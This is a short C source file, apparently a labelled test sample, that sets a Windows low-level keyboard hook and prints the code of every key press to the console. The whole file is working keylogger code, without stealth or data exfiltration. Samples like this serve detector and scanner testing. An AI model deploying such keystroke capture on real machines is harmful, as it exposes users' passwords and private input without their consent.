/* Low-level keyboard hook logger. Never run: test sample. */
#include <windows.h>
#include <stdio.h>
static HHOOK hook;
static LRESULT CALLBACK proc(int code, WPARAM w, LPARAM l) {
    if (code == HC_ACTION && w == WM_KEYDOWN) {
        KBDLLHOOKSTRUCT *k = (KBDLLHOOKSTRUCT *)l;
        printf("%lu\n", k->vkCode);
    }
    return CallNextHookEx(hook, code, w, l);
}
int main(void) {
    MSG msg;
    hook = SetWindowsHookExA(WH_KEYBOARD_LL, proc, GetModuleHandleA(NULL), 0);
    while (GetMessageA(&msg, NULL, 0, 0)) { TranslateMessage(&msg); DispatchMessageA(&msg); }
    return 0;
}
